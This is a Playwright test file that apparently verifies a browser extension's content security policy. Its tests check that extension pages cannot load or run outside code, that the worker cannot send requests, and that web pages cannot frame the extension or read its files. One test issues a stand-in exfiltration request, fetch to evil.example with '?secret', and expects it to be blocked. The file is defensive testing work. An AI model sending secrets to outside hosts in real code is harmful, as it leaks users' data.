import type { Page } from '@playwright/test';
import { attempts, watched } from './pages/attempts';
import { expect, test } from './test';

test('the browser lets a page of the extension load, send and run nothing from elsewhere', async ({
  fresh,
}) => {
  for (const path of ['popup.html#/vendor/fal', 'directory.html', 'options.html', 'welcome.html']) {
    const page = await fresh.openOwn(path);
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    for (const [directive, attempt] of attempts) {
      expect(await violated(page, attempt), `${path}: ${attempt}`).toBe(directive);
    }
    expect(await page.evaluate('globalThis.ran')).toBeUndefined();
    await page.close();
  }
});

test('the worker can send nothing', async ({ fresh }) => {
  const worker = await fresh.worker();
  await expect(worker.evaluate("fetch('https://evil.example/?secret')")).rejects.toThrow('Failed to fetch');
});

test('a page can neither frame a page of the extension nor read a file of it', async ({ fresh }) => {
  const page = await fresh.open('https://fal.ai/');
  const file = `chrome-extension://${fresh.id}/dataset.json`;
  await expect(page.evaluate((url) => fetch(url), file)).rejects.toThrow('Failed to fetch');
  await page.evaluate((url) => {
    const frame = document.createElement('iframe');
    frame.src = url;
    document.body.append(frame);
  }, `chrome-extension://${fresh.id}/options.html`);
  await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/);
});

/** The directive that an attempt violates, as the page itself is told of it. */
const violated = (page: Page, attempt: string) => page.evaluate(watched(attempt));
